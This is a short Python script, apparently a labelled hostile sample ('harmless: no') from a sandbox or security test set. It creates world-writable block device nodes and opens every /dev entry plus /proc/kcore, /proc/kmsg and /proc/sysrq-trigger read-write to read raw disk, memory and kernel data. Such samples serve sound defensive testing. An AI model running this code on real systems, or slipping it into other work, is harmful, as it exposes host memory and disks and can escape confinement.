# attack: devices are made, opened and read: disks, memory, terminals, kernel log
# harmless: no
import glob
import os
import stat

for number, (major, minor) in enumerate([(1, 1), (8, 0), (254, 0), (1, 11)]):
    try:
        os.mknod(f"/tmp/device{number}", stat.S_IFBLK | 0o666, os.makedev(major, minor))
        print("made a device", major, minor)
    except OSError:
        pass
for path in [*glob.glob("/dev/*"), "/proc/kcore", "/proc/kmsg", "/proc/sysrq-trigger"]:
    if os.path.basename(path) in ("stdin", "stdout", "stderr", "tty", "console", "ptmx"):
        continue
    try:
        file = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        print(path, os.read(file, 20))
    except OSError:
        pass
